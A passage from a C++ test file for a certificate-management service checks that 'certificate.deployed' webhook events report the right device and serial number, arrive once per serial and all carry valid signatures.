        auto got = deployed(static_cast<std::size_t>(round));
        ASSERT_EQ(got.size(), static_cast<std::size_t>(round));
        auto const& data = got.back().at("data");
        EXPECT_EQ(got.back().at("type"), "certificate.deployed");
        EXPECT_EQ(data.at("device").at("id").as_int64(), a.device_id);
        EXPECT_EQ(data.at("device").at("device_public_id").as_string(), a.public_id);
        EXPECT_EQ(data.at("serial_number"), data.at("certificate").at("serial_number"));
        auto detail = call("GET", "/apiv1/me/certificates/" + c, key);
        EXPECT_EQ(data.at("serial_number"), detail.json().at("data").at("serial_number"));
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(500));
    EXPECT_EQ(rx.events().size(), 2u) << "one event per serial";
    EXPECT_EQ(rx.not_signed_by(secret), 0u);
}

}  // namespace
}  // namespace certctrl::test
